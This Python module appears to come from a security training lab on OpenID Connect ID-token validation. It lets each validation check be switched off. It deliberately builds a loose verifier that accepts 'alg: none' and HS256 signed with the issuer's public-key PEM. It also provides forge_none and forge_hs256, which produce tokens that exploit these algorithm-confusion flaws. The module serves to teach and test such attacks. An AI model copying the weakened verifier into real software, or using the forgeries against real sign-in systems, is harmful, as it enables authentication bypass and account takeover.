"""ID tokens for the lab "id-token-validation": the lab client's validation, as
OpenID Connect Core §3.1.3.7 lists it, with each check a switch
(``Variant.id_token_checks``); and the attacker's forgeries (RFC 8725 §2.1, §3.1).

The checks run in §3.1.3.7's order through PyJWT: ``iss`` (point 2), ``aud``
(3), the ``signature`` with the key the issuer publishes at its ``jwks_uri`` under
an alg its metadata pins (6, 7; RFC 8725 §3.1), ``exp`` (9), ``nonce`` (11). A
client without the ``signature`` check lets the token's header choose the
algorithm, as libraries once did: ``none`` needs no signature, and ``HS256`` is
verified with the issuer's public key, as PEM, for an HMAC secret (RFC 8725 §2.1).
That loose verifier, :data:`LOOSE`, is PyJWT's JWS with those two algorithms
replaced; the attacker signs its HS256 forgery with it too.
"""

from __future__ import annotations

import hmac
import json
from collections.abc import Mapping

import jwt
import requests
from cryptography.hazmat.primitives import serialization
from jwt.algorithms import HMACAlgorithm
from jwt.algorithms import NoneAlgorithm

from flowlab.core import outbound

CHECKS = ("iss", "aud", "signature", "exp", "nonce")  # §3.1.3.7's order
REQUIRED = ["iss", "sub", "aud", "exp", "iat"]  # OIDC Core §2


class Invalid(Exception):
    """An id_token refused: ``check`` names the check it failed."""

    def __init__(self, check: str, description: str) -> None:
        super().__init__(description)
        self.check = check


class _AnyKeyHMAC(HMACAlgorithm):
    """HS256 taking any bytes for its secret, a PEM public key included: the
    refusal PyJWT makes (RFC 8725 §2.1's confusion) taken out."""

    def prepare_key(self, key):
        return key if isinstance(key, bytes) else str(key).encode()


class _TrustingNone(NoneAlgorithm):
    """``alg: none`` taken at its word: an empty signature verifies."""

    def verify(self, msg, key, sig) -> bool:
        return sig == b""


LOOSE = jwt.PyJWS()
LOOSE.unregister_algorithm("HS256")
LOOSE.register_algorithm("HS256", _AnyKeyHMAC(HMACAlgorithm.SHA256))
LOOSE.unregister_algorithm("none")
LOOSE.register_algorithm("none", _TrustingNone())


def discover(issuer: str, config: Mapping) -> tuple[dict, list[dict]]:
    """The issuer's metadata (OpenID Connect Discovery §4) and the keys at its
    ``jwks_uri``, fetched as any relying party would."""
    http = outbound.session()
    timeout = config["HTTP_TIMEOUT"]
    metadata = http.get(issuer + "/.well-known/openid-configuration",
                        timeout=timeout).json()
    keys = http.get(metadata["jwks_uri"], timeout=timeout).json().get("keys", [])
    return metadata, keys


def pem(jwk: dict) -> bytes:
    """A published public key as PEM: what the HS256 forgery uses as its secret."""
    key = jwt.PyJWK(jwk).key
    return key.public_bytes(serialization.Encoding.PEM,
                            serialization.PublicFormat.SubjectPublicKeyInfo)


def _key_of(token: str, keys: list[dict]) -> tuple[dict, dict | None]:
    try:
        header = jwt.get_unverified_header(token)
    except jwt.PyJWTError:
        raise Invalid("signature", "The id_token is not a JWS") from None
    return header, next((k for k in keys if k.get("kid") == header.get("kid")), None)


def validate(token: str, *, issuer: str, client_id: str, nonce: str,
             checks: tuple[str, ...], metadata: dict, keys: list[dict]) -> dict:
    """The id_token's claims if every check in ``checks`` holds, else
    :class:`Invalid` naming the first that failed (OIDC Core §3.1.3.7)."""
    header, jwk = _key_of(token, keys)
    strict = "signature" in checks
    if not strict:  # the token's own alg decides how its signature is checked
        try:
            LOOSE.decode_complete(token, jwk and pem(jwk),
                                  algorithms=[str(header.get("alg"))])
        except (jwt.PyJWTError, ValueError, TypeError):
            raise Invalid("signature", "The id_token's signature is invalid") from None
    elif jwk is None:
        raise Invalid("signature", "The id_token's kid names no key the issuer"
                      " publishes")
    pinned = [alg for alg in metadata.get("id_token_signing_alg_values_supported", ())
              if alg == (jwk or {}).get("alg")]
    try:
        claims = jwt.decode(
            token, jwt.PyJWK(jwk).key if strict else None, algorithms=pinned,
            audience=client_id, issuer=issuer, options={
                "verify_signature": strict, "verify_iss": "iss" in checks,
                "verify_aud": "aud" in checks, "verify_exp": "exp" in checks,
                "require": REQUIRED})
    except jwt.InvalidIssuerError:
        raise Invalid("iss", "The id_token's iss is not the issuer") from None
    except jwt.InvalidAudienceError:
        raise Invalid("aud", "The id_token's aud does not name this client") from None
    except jwt.ExpiredSignatureError:
        raise Invalid("exp", "The id_token has expired") from None
    except jwt.MissingRequiredClaimError as exc:
        raise Invalid("claims", f"The id_token lacks {exc.claim}") from None
    except (jwt.PyJWTError, ValueError, TypeError):
        raise Invalid("signature", f"The id_token's alg {header.get('alg')!r} is not"
                      " one the issuer signs with, or its signature is invalid"
                      ) from None
    if "nonce" in checks and not hmac.compare_digest(
            str(claims.get("nonce", "")), nonce):
        raise Invalid("nonce", "The id_token's nonce is not this sign-in's")
    return claims


def sign_in(token: str, *, nonce: str | None, issuer: str, client_id: str,
            checks: tuple[str, ...], config: Mapping) -> tuple[int, dict]:
    """The client's server signing in whoever presents ``token`` for the waiting
    sign-in whose nonce is ``nonce`` (None: none waits): 200 and whom, or 401 and
    the check that failed."""
    try:
        if nonce is None:
            raise Invalid("session", "No sign-in of this session is waiting")
        try:
            metadata, keys = discover(issuer, config)
        except (requests.RequestException, ValueError, KeyError):
            raise Invalid("discovery", "The issuer's metadata or keys could not be"
                          " read") from None
        claims = validate(token, issuer=issuer, client_id=client_id, nonce=nonce,
                          checks=checks, metadata=metadata, keys=keys)
    except Invalid as exc:
        return 401, {"error": "invalid_token", "check": exc.check,
                     "error_description": str(exc)}
    return 200, {"signed_in": claims["sub"]}


def forge_none(claims: dict) -> str:
    """An unsigned token (RFC 7515 §A.5): ``alg: none``, empty signature."""
    return jwt.encode(claims, None, algorithm="none")


def forge_hs256(claims: dict, jwk: dict) -> str:
    """HS256 with the issuer's public key (PEM) as the HMAC secret, naming that
    key's ``kid`` (RFC 8725 §2.1)."""
    return LOOSE.encode(json.dumps(claims).encode(), pem(jwk), algorithm="HS256",
                        headers={"kid": jwk["kid"], "typ": "JWT"})
